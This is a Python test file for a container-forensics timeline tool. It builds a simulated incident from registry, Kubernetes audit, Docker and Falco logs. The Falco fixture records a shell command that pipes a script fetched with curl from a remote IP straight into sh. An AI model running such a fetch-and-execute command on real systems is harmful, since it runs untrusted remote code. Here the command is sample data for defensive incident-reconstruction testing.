"""`ctrail timeline` after `ctrail ingest`, per source, of one realistic incident.

The scenario, in the sources' real wire formats: CI pushes team/api:1.4 (digest D1) to a
Distribution registry; alice creates Deployment shop/api; the deployment controller creates its
ReplicaSet, which creates the pod; the scheduler binds it to node-7; Docker starts the container
with the kubelet's labels; mallory re-pushes team/api:1.4 (digest D2) an hour later; a Falco
alert names the container only by its 12-character id; Docker reports it died. A week later,
in a new process, the short id must resolve to all of it, whatever order the files came in.
"""

from __future__ import annotations

import json
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest

CONTAINER = "3f2a9c1e7b4d" + "5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f80"
SHORT = CONTAINER[:12]
POD_UID = "6f1c2d3e-4a5b-4c6d-8e9f-0a1b2c3d4e5f"
POD = "api-7d4b9c8f6-x2x9q"
D1 = "sha256:" + "d1" * 32
D2 = "sha256:" + "d2" * 32
IMAGE = "registry.example.com/team/api:1.4"
EXPECTED = {
    "container_id": CONTAINER, "container_name": "api", "namespace": "shop", "pod_name": POD,
    "pod_uid": POD_UID, "node": "node-7", "owner_kind": "ReplicaSet",
    "owner_name": "api-7d4b9c8f6", "workload_kind": "Deployment", "workload_name": "api",
    "image_name": "registry.example.com/team/api", "image_tag": "1.4", "digest": D1,
    "deployed_by": "alice@example.com", "pushed_by": "ci-bot", "pushed_from": "10.0.0.5",
}


def ts(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def audit(at: datetime, verb: str, user: str, ref: dict[str, Any], code: int = 201,
          request: dict[str, Any] | None = None, response: dict[str, Any] | None = None,
          ) -> dict[str, Any]:
    event = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse",
             "auditID": f"{verb}-{ref['resource']}-{at.timestamp():.0f}", "stage": "ResponseComplete",
             "requestURI": f"/apis/{ref['resource']}", "verb": verb,
             "user": {"username": user, "groups": ["system:authenticated"]},
             "sourceIPs": ["10.0.0.9"], "userAgent": "kubectl/v1.30.1", "objectRef": ref,
             "responseStatus": {"metadata": {}, "code": code},
             "requestReceivedTimestamp": ts(at), "stageTimestamp": ts(at)}
    if request is not None:
        event["requestObject"] = request
    if response is not None:
        event["responseObject"] = response
    return event


def owner(kind: str, name: str) -> list[dict[str, Any]]:
    return [{"apiVersion": "apps/v1", "kind": kind, "name": name, "uid": f"uid-{name}",
             "controller": True, "blockOwnerDeletion": True}]


def audit_lines(t0: datetime) -> list[dict[str, Any]]:
    spec = {"containers": [{"name": "api", "image": IMAGE}]}
    deployment = {"kind": "Deployment", "apiVersion": "apps/v1",
                  "metadata": {"name": "api", "namespace": "shop", "uid": "uid-api"},
                  "spec": {"template": {"spec": spec}}}
    replicaset = {"kind": "ReplicaSet", "apiVersion": "apps/v1",
                  "metadata": {"name": "api-7d4b9c8f6", "namespace": "shop",
                               "ownerReferences": owner("Deployment", "api")}}
    pod = {"kind": "Pod", "apiVersion": "v1",
           "metadata": {"name": POD, "generateName": "api-7d4b9c8f6-", "namespace": "shop",
                        "uid": POD_UID, "labels": {"app": "api", "pod-template-hash": "7d4b9c8f6"},
                        "ownerReferences": owner("ReplicaSet", "api-7d4b9c8f6")},
           "spec": spec, "status": {"phase": "Pending"}}
    binding = {"kind": "Binding", "apiVersion": "v1", "metadata": {"name": POD, "uid": POD_UID},
               "target": {"kind": "Node", "name": "node-7"}}
    return [
        audit(t0 + timedelta(seconds=60), "create", "alice@example.com",
              {"resource": "deployments", "namespace": "shop", "name": "api",
               "apiGroup": "apps", "apiVersion": "v1"}, request=deployment, response=deployment),
        audit(t0 + timedelta(seconds=61), "create",
              "system:serviceaccount:kube-system:deployment-controller",
              {"resource": "replicasets", "namespace": "shop", "apiGroup": "apps",
               "apiVersion": "v1"}, response=replicaset),
        audit(t0 + timedelta(seconds=62), "create",
              "system:serviceaccount:kube-system:replicaset-controller",
              {"resource": "pods", "namespace": "shop", "apiVersion": "v1"}, response=pod),
        audit(t0 + timedelta(seconds=63), "create", "system:kube-scheduler",
              {"resource": "pods", "namespace": "shop", "name": POD, "subresource": "binding",
               "apiVersion": "v1"}, request=binding),
    ]


def docker_line(at: datetime, action: str) -> dict[str, Any]:
    attributes = {"image": IMAGE, "name": f"k8s_api_{POD}_shop_{POD_UID}_0",
                  "io.kubernetes.container.name": "api", "io.kubernetes.pod.name": POD,
                  "io.kubernetes.pod.namespace": "shop", "io.kubernetes.pod.uid": POD_UID}
    if action == "die":
        attributes["exitCode"] = "137"
    nanos = int(at.timestamp() * 1e9)
    return {"status": action, "id": CONTAINER, "from": IMAGE, "Type": "container",
            "Action": action, "Actor": {"ID": CONTAINER, "Attributes": attributes},
            "scope": "local", "time": nanos // 10**9, "timeNano": nanos}


def falco_line(at: datetime) -> dict[str, Any]:
    fields = {"container.id": SHORT, "evt.time": int(at.timestamp() * 1e9),
              "proc.cmdline": "sh -c curl http://198.51.100.7/x | sh", "proc.name": "sh",
              "user.name": "root"}
    return {"hostname": "node-7", "output": f"{at:%H:%M:%S}: Notice A shell was spawned in a "
            f"container (user=root container_id={SHORT} shell=sh)", "output_fields": fields,
            "priority": "Notice", "rule": "Terminal shell in container", "source": "syscall",
            "tags": ["container", "shell", "mitre_execution"], "time": ts(at)}


def push_event(at: datetime, digest: str, actor: str, addr: str, n: int) -> dict[str, Any]:
    return {"id": f"push-{n}", "timestamp": ts(at), "action": "push",
            "target": {"mediaType": "application/vnd.docker.distribution.manifest.v2+json",
                       "digest": digest, "size": 1234, "length": 1234, "repository": "team/api",
                       "url": f"https://registry.example.com/v2/team/api/manifests/{digest}",
                       "tag": "1.4"},
            "request": {"id": f"req-{n}", "addr": addr, "host": "registry.example.com",
                        "method": "PUT", "useragent": "docker/27.0.3"},
            "actor": {"name": actor}, "source": {"addr": "registry-0:5000",
                                                 "instanceID": "r-0"}}


def write_scenario(directory: Path, t0: datetime) -> dict[str, Path]:
    """The incident as one file per source: {source: path}."""
    files = {"registry": directory / "registry.json", "k8s-audit": directory / "audit.log",
             "docker-events": directory / "docker.jsonl", "falco": directory / "falco.jsonl"}
    files["registry"].write_text(json.dumps({"events": [
        push_event(t0, D1, "ci-bot", "10.0.0.5:41234", 1),
        push_event(t0 + timedelta(hours=1), D2, "mallory", "203.0.113.9:5555", 2)]}))
    files["k8s-audit"].write_text("".join(json.dumps(e) + "\n" for e in audit_lines(t0)))
    files["docker-events"].write_text("".join(json.dumps(docker_line(t0 + timedelta(seconds=s), a))
                                              + "\n" for s, a in ((65, "create"), (66, "start"),
                                                                  (7300, "die"))))
    files["falco"].write_text(json.dumps(falco_line(t0 + timedelta(seconds=7200))) + "\n")
    return files


IN_ORDER = ("registry", "k8s-audit", "docker-events", "falco")
OUT_OF_ORDER = ("falco", "docker-events", "k8s-audit", "registry")


def a_week_ago() -> datetime:
    return (datetime.now(timezone.utc) - timedelta(days=8)).replace(microsecond=0)


def ingest_all(ctrail, files: dict[str, Path], order: tuple[str, ...]) -> None:  # type: ignore[no-untyped-def]
    for source in order:
        result = ctrail("ingest", "--source", source, str(files[source]))
        assert result.status == 0, result.err
        assert result.out.strip().endswith(" 0 dead-lettered"), result.out


def check_container_timeline(lines: list[dict[str, Any]]) -> None:
    subject, events = lines[0]["subject"], lines[1:]
    assert {k: subject.get(k) for k in EXPECTED} == EXPECTED
    assert subject["gone"] and subject["first_seen"] < subject["last_seen"]
    stamps = [e["@timestamp"] for e in events]
    assert stamps == sorted(stamps)
    actions = [(e["event"]["dataset"], e["event"]["action"]) for e in events]
    assert actions == [("registry.distribution", "push"), ("kubernetes.audit", "create"),
                       ("kubernetes.audit", "create"), ("docker.events", "create"),
                       ("docker.events", "start"), ("falco.alerts", "Terminal shell in container"),
                       ("docker.events", "die")]
    falco = events[5]
    # Explained at query time, whatever the store holds: the full id, the pod, the digest.
    assert falco["container"]["id"] == CONTAINER
    assert falco["kubernetes"]["pod"]["name"] == POD
    assert falco["container"]["image"]["hash"]["all"] == [D1]
    assert falco["containertrail"]["deployed_by"]["name"] == "alice@example.com"
    assert falco["containertrail"]["image_pushed_by"]["name"] == "ci-bot"
    assert falco["orchestrator"]["resource"]["parent"]["type"] == "Deployment"


@pytest.mark.parametrize("order", [IN_ORDER, OUT_OF_ORDER], ids=["in-order", "out-of-order"])
def test_a_short_id_from_falco_resolves_a_week_later_in_a_new_process(ctrail, tmp_path: Path,  # type: ignore[no-untyped-def]
                                                                        order) -> None:
    files = write_scenario(tmp_path, a_week_ago())
    ingest_all(ctrail, files, order)
    run = ctrail("timeline", "--container", SHORT, "--format", "json")
    assert run.status == 0, run.err
    check_container_timeline(run.json_lines())


def test_ingest_time_enrichment_attaches_what_was_known_then(ctrail, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    ingest_all(ctrail, write_scenario(tmp_path, a_week_ago()), IN_ORDER)
    (stored,) = ctrail("search", "event.dataset:falco.alerts", "--format", "json").json_lines()
    assert stored["container"]["id"] == CONTAINER
    assert stored["kubernetes"]["node"]["name"] == "node-7"
    assert stored["containertrail"]["workload"] == {"kind": "Deployment", "name": "api"}
    assert stored["container"]["image"]["hash"]["all"] == [D1]


def test_a_re_pushed_tag_shows_the_digest_that_ran(ctrail, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    ingest_all(ctrail, write_scenario(tmp_path, a_week_ago()), OUT_OF_ORDER)
    lines = ctrail("timeline", "--image", "registry.example.com/team/api:1.4",
                   "--format", "json").json_lines()
    subject = lines[0]["subject"]
    assert [h["digest"] for h in subject["tag_history"]] == [D1, D2]
    assert subject["digests"][D1]["pushed_by"] == "ci-bot"
    assert subject["digests"][D2]["pushed_by"] == "mallory"
    assert subject["containers"] == [CONTAINER]          # ran D1, not the later D2
    by_digest = ctrail("timeline", "--image", D2, "--format", "json").json_lines()
    assert by_digest[0]["subject"]["containers"] == []


def test_pod_and_user_subjects(ctrail, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    ingest_all(ctrail, write_scenario(tmp_path, a_week_ago()), IN_ORDER)
    pod = ctrail("timeline", "--pod", f"shop/{POD}", "--format", "json").json_lines()
    assert pod[0]["subject"]["containers"] == [CONTAINER]
    assert pod[0]["subject"]["deployed_by"] == "alice@example.com"
    assert len(pod) - 1 == 7             # push, 2 pod audits, 3 docker, falco
    user = ctrail("timeline", "--user", "alice@example.com", "--format", "json").json_lines()
    assert user[0]["subject"]["containers_deployed"] == [CONTAINER]
    assert user[0]["subject"]["workloads_changed"] == ["Deployment/shop/api"]
    assert {e["event"]["dataset"] for e in user[1:]} >= {"kubernetes.audit", "falco.alerts"}


def test_the_table_names_the_subject_first(ctrail, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    ingest_all(ctrail, write_scenario(tmp_path, a_week_ago()), IN_ORDER)
    run = ctrail("timeline", "--container", SHORT)
    assert run.status == 0, run.err
    assert run.out.index("node-7") < run.out.index("events (7)")
    assert "alice@example.com" in run.out and "ci-bot" in run.out


def test_an_unknown_container_and_a_bad_pod_argument(ctrail) -> None:  # type: ignore[no-untyped-def]
    run = ctrail("timeline", "--container", "0123456789ab", "--format", "json")
    assert run.status == 0 and run.json_lines() == [
        {"subject": {"type": "container", "query": "0123456789ab", "resolved": False}}]
    bad = ctrail("timeline", "--pod", "no-namespace")
    assert bad.status == 2 and "NAMESPACE/NAME" in bad.err
